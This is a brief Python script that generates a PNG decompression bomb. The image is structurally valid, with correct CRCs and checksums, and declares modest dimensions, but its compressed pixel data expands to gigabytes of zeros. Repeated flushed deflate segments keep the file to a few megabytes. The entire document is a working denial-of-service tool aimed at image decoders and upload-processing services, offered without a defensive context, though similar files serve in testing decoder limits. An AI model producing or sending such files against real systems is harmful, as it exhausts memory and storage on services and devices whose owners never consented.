#!/usr/bin/python3
# png_bomb.py OUT W H GIB: a valid PNG (CRCs, zlib stream, adler32 all correct)
# whose W x H RGB header allows W*H*3+H bytes but whose IDAT inflates to
# GIB gibibytes of zeros.  Fully flushed deflate segments are repeated, so a
# few MB of file are made in seconds.
import sys, zlib, struct
def chunk(t, d):
    return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
w, h, gib = int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
zero = bytes(1 << 20)
c = zlib.compressobj(9)
head = c.compress(zero) + c.flush(zlib.Z_FULL_FLUSH)
seg = c.compress(zero) + c.flush(zlib.Z_FULL_FLUSH)
n = int(gib * 1024)
adler = 1
for _ in range(n):
    adler = zlib.adler32(zero, adler)
idat = head + seg * (n - 1) + b'\x03\x00' + struct.pack('>I', adler)
open(sys.argv[1], 'wb').write(b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0))
    + chunk(b'IDAT', idat) + chunk(b'IEND', b''))
